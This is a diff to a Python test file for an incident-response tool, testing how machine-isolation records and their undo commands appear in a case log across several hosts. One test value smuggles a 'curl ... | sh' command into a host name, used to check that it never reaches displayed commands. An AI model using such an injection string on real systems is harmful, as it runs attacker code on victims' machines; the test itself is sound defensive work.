@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import platform
 import re
 from pathlib import Path
 from typing import Any
@@ -12,7 +13,7 @@ from django.test import Client
 from django.utils import translation
 
 from hikeshi.casebook import services as casebook
-from hikeshi.contain import evidence, evidence_import, isolation
+from hikeshi.contain import evidence, evidence_import, isolation, standing
 from hikeshi.contain import services as contain
 from hikeshi.contain.services import Given
 from hikeshi.engines.common.problem import Problem
@@ -173,6 +174,7 @@ DONE = {
     "isolation": "i1", "host": "root@web1", "machine": "web1", "verb": "on", "state": "isolated", "already": False,
     "allow": [], "layers": [], "worked": [], "failed": [], "after_reboot": False, "undo": "",
 }  # fmt: skip
+FAILED = {"isolation": "i1", "host": "localhost", "verb": "on", "problem": "isolation.not_root", "last_step": ""}
 EVIL = "web1; curl http://192.0.2.66/x|sh #"
 
 
@@ -193,6 +195,7 @@ def test_no_journal_puts_a_command_into_the_page(cast: Cast, tmp_path: Path) -> 
         cast,
         ("isolation.intended", {**INTENDED, "host": EVIL}),
         ("isolation.done", {**DONE, "host": EVIL}),
+        ("isolation.intended", {**INTENDED, "host": "root@[2001:db8::1]", "isolation": "i2"}),
         ("isolation.done", {**DONE, "host": "root@[2001:db8::1]", "isolation": "i2"}),
         ("isolation.done", {**DONE, "host": ["web1"], "isolation": "i3"}),
     )
@@ -202,5 +205,38 @@ def test_no_journal_puts_a_command_into_the_page(cast: Cast, tmp_path: Path) -> 
     assert "isolate off --host 'root@[2001:db8::1]'" in text
     assert casebook.evidence_of(case).count() == 1
     # Also where such a line is in the casebook already.
-    isolation.InCase(case, cast.actor).write("isolation.done", {**DONE, "host": EVIL}, {})
+    for kind, data in (("isolation.intended", INTENDED), ("isolation.done", DONE)):
+        isolation.InCase(case, cast.actor).write(kind, {**data, "host": EVIL}, {})
     assert [text for text in said(case, "隔離") if "--host web1" in text] == []
+
+
+def test_machines_that_were_cut_at_themselves_are_not_mixed_up(cast: Cast, tmp_path: Path) -> None:
+    """べつの機械の前で書いた手控えは、その機械の名前で並び、戻し方も「その機械で」。この機械のものは、そのまま。"""
+    case = cast.open_case()
+    here = {"host": "localhost", "way": "here", "timer": 0}
+    collection = {"collection": "c1", "host": "localhost", "way": "here", "system": "linux", "stages": [], "tool": "h"}
+    for folder, machine in (("1", "pc-b"), ("2", "pc-c"), ("3", platform.node())):
+        number = {"isolation": folder}
+        path = journal_of(
+            tmp_path / folder / "localhost-20261106T050000Z.tar.journal",
+            cast,
+            ("collection.begun", {**collection, "collection": folder}),
+            ("isolation.intended", {**INTENDED, **here, **number}),
+            ("isolation.done", {**DONE, **number, "host": "localhost", "machine": machine}),
+            ("isolation.failed", {**FAILED, "isolation": f"{folder} again"}),
+        )
+        evidence_import.take_in(case, path, cast.actor)
+    other = journal_of(tmp_path / "pc-d.tar.journal", cast, ("isolation.intended", {**INTENDED, **here}))
+    evidence_import.take_in(case, other, cast.actor)
+    stood = {one.host: (one.state, one.undo) for one in standing.standings(case)}
+    assert stood == {
+        "pc-b": ("isolated", ""),
+        "pc-c": ("isolated", ""),
+        "localhost": ("isolated", "python3 start.py isolate off"),
+        "pc-d": ("owed", ""),
+    }
+    texts = said(case, "隔離")
+    assert "元に戻すには、その機械で（管理者として）：python3 start.py isolate off" in texts[0]
+    assert [text for text in texts if "--host" in text] == []
+    assert [text.split("：")[0] for text in said(case, "証拠")] == ["pc-b", "pc-c", "localhost", "pc-d"]
+    assert "To undo it, at that machine (as administrator): python3" in said(case, "Isolation", "en")[0]
